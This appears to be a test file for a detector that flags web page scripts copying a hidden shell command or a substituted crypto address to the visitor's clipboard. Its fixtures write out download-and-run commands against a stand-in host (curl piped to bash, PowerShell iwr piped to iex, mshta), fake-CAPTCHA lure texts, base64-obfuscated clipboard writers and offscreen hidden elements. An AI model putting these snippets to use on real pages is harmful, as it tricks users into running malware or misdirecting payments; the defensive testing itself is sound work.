import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { scanHtml } from '../html/scanHtml.ts'
import { hiddenCopies } from './copiedTexts.ts'
import { unfold } from './obfuscation.ts'

const { signal } = new AbortController()
const SHOWN = '0x00000000000000000000000000000000000000aa'
const OTHER = '0x00000000000000000000000000000000000000bb'
const COMMAND = 'curl -s https://drop.test/i.sh | bash'

describe('what code copies and the page does not show', () => {
  const cases: [what: string, code: string, text: string, ...kinds: string[]][] = [
    ['a command', `navigator.clipboard.writeText('${COMMAND}')`, 'Verify you are human', 'copies-hidden-command'],
    [
      'a command in an item',
      `navigator.clipboard.write([new ClipboardItem({ 'text/plain': new Blob(['${COMMAND}'], { type: 'text/plain' }) })])`,
      'Verify you are human',
      'copies-hidden-command',
    ],
    [
      'a command with quotation marks',
      String.raw`navigator.clipboard.writeText("powershell -c \"iwr https://drop.test/v | iex\"")`,
      'Press Windows + R',
      'copies-hidden-command',
    ],
    [
      'a command in encoded code',
      `eval(atob('${btoa(`b.onclick = () => navigator.clipboard.writeText('${COMMAND}')`)}'))`,
      '',
      'copies-hidden-command',
    ],
    [
      'another address, put together',
      `navigator.clipboard.writeText(['${OTHER.slice(0, 20)}', '${OTHER.slice(20)}'].join(''))`,
      `Send to ${SHOWN}`,
      'copies-other-address',
    ],
    [
      'another address by a field',
      `field.value = '${OTHER}'; field.select(); document.execCommand('copy')`,
      `Send to ${SHOWN}`,
      'copies-other-address',
    ],
    [
      'a command by a name that is used once',
      `const text = '${COMMAND}'; area.value = text; area.select(); document.execCommand('copy')`,
      'Verify you are human',
      'copies-hidden-command',
    ],
    [
      'one of two commands',
      `await navigator.clipboard.writeText(mac ? '${COMMAND}' : 'mshta https://drop.test/v')`,
      'Your camera is blocked',
      'copies-hidden-command',
      'copies-hidden-command',
    ],
    [
      'one of two addresses, by chance',
      `navigator.clipboard.writeText(Math.random() < 0.5 ? '${SHOWN}' : '${OTHER}')`,
      `Send to ${SHOWN}`,
      'copies-other-address',
    ],
    // Honest.
    [
      'the address of a contract on the selected network',
      `navigator.clipboard.writeText(chain === 1 ? '${SHOWN}' : '${OTHER}')`,
      `Contract ${SHOWN}`,
    ],
    [
      'a command by a name that is drawn too',
      `const command = '${COMMAND}'; pre.textContent = command; copy = () => navigator.clipboard.writeText(command)`,
      'Install',
    ],
    [
      'one of two commands that are shown',
      `navigator.clipboard.writeText(mac ? 'brew install tea' : '${COMMAND}')`,
      `brew install tea or ${COMMAND}`,
    ],
    ['a command that is shown', `navigator.clipboard.writeText('${COMMAND}')`, `Run ${COMMAND} in a terminal`],
    [
      'a command that is drawn',
      `pre.append('${COMMAND}'); copy = () => navigator.clipboard.writeText('${COMMAND}')`,
      '',
    ],
    ['the shown address', `navigator.clipboard.writeText('${SHOWN}')`, `Send to ${SHOWN}`],
    [
      'an address that is shown in short',
      `navigator.clipboard.writeText('0x9b1c5a0d3f2e4b6a7c8d9e0f1a2b3c4d5e6f7a8b')`,
      `Our token 0x9b1c…7a8b, on top of ${SHOWN}`,
    ],
    ['an address where none is shown', `navigator.clipboard.writeText('${SHOWN}')`, 'Donate'],
    ['a contract in code', `const token = '${OTHER}'; navigator.clipboard.writeText(link)`, `Send to ${SHOWN}`],
  ]
  for (const [what, code, text, ...expected] of cases) {
    it(`${what}: ${expected.join(', ') || 'nothing'}`, async () => {
      const found = await hiddenCopies([unfold('inline', code)], text, { signal })
      assert.deepEqual(
        found.map(({ kind }) => kind),
        expected,
      )
    })
  }
})

describe('what code copies from an element', () => {
  const kinds = async (html: string, code: string) => {
    const { text, hiddenTexts } = await scanHtml(html, signal)
    const found = await hiddenCopies([unfold('inline', code)], text, { hidden: hiddenTexts, signal })
    return found.map(({ kind }) => kind)
  }
  const COPIES = `box.onclick = () => { document.querySelector('#c').select(); document.execCommand('copy') }`

  it('is a hidden command where no person sees the element', async () => {
    const far = `<p>Check</p><textarea id="c" style="position: absolute; left: -9999px">${COMMAND}</textarea>`
    assert.deepEqual(await kinds(far, COPIES), ['copies-hidden-command'])
    const clear = `<div style="opacity:0"><pre id="c">${COMMAND}</pre></div>`
    const reads = `navigator.clipboard.writeText(document.querySelector('#c').textContent)`
    assert.deepEqual(await kinds(clear, reads), ['copies-hidden-command'])
  })

  it('and none where it is shown too, waits behind a tab, or is no command', async () => {
    const twice = `<pre>${COMMAND}</pre><textarea id="c" style="left:-9999px">${COMMAND}</textarea>`
    assert.deepEqual(await kinds(twice, COPIES), [])
    assert.deepEqual(await kinds(`<pre id="c" style="display:none">${COMMAND}</pre>`, COPIES), [])
    assert.deepEqual(await kinds(`<textarea id="c" style="left:-9999px">Save water, 2024</textarea>`, COPIES), [])
  })
})

describe('a page of a megabyte that copies and names a great deal', () => {
  it('is looked through in little time, and others have their turn', async () => {
    const names = Array.from({ length: 200 }, (_, at) => `var n${at}='mshta https://drop.test/${at}';`).join('')
    const code = `${names}${'navigator.clipboard.writeText(n1);'.repeat(20)}${'ab ;'.repeat(45_000)}`
    const codes = Array.from({ length: 6 }, () => ({ where: 'inline', text: code, decoded: '', unfolded: code }))
    let turns = 0
    const timer = setInterval(() => turns++, 1)
    const before = process.cpuUsage()
    await hiddenCopies(codes, 'Install', { signal })
    clearInterval(timer)
    assert.ok(process.cpuUsage(before).user < 2_000_000)
    assert.ok(turns > 0)
  })
})
